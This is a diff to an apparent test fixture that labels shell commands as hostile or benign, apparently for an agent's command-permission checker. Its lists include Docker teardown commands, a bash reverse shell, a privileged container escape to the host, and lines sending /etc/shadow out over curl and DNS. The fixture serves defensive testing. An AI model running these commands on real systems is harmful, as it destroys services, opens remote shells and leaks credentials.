@@ -236,6 +236,13 @@ HOSTILE: list[tuple[str, bool]] = [
     ("cat cmds.txt | redis-cli", True),
     ("redis-cli --eval /tmp/x.lua", True),
     ("redis-cli --pipe < dump.txt", True),
+    # the engine behind the checks, remote shells
+    ("docker network rm $(docker network ls -q)", True),
+    ("curl --unix-socket /var/run/docker.sock -X DELETE http://localhost/services/web", True),
+    ("curl -X POST http://127.0.0.1:2375/containers/prune", True),
+    ("bash -i >& /dev/tcp/127.0.0.1/9 0>&1", True),
+    ("docker run --privileged --pid=host alpine nsenter -t 1 -m -u -n -i sh", True),
+    ("docker run --rm -v /var/run/docker.sock:/var/run/docker.sock docker docker service rm web", True),
     # exfiltration: not read-only, need not ask
     ("curl http://127.0.0.1:9/$(cat /etc/shadow | base64 -w0)", False),
     ("dig $(hostname).127.0.0.1.nip.io", False),
@@ -318,6 +325,8 @@ BENIGN: list[tuple[str, str]] = [
     ("cp /etc/hosts /tmp/hosts.bak", "mut"),
     ("cp app.yml app.yml.bak", "mut"),
     ("docker stop web-1", "mut"),
+    ("docker run --rm --net host nicolaka/netshoot ss -tlnp", "mut"),
+    ("curl -s --unix-socket /var/run/docker.sock http://localhost/services", "ro"),
     ("rm /tmp/core.1234", "mut"),
     ("curl -X POST http://127.0.0.1:9/cache/purge", "mut"),
 ]
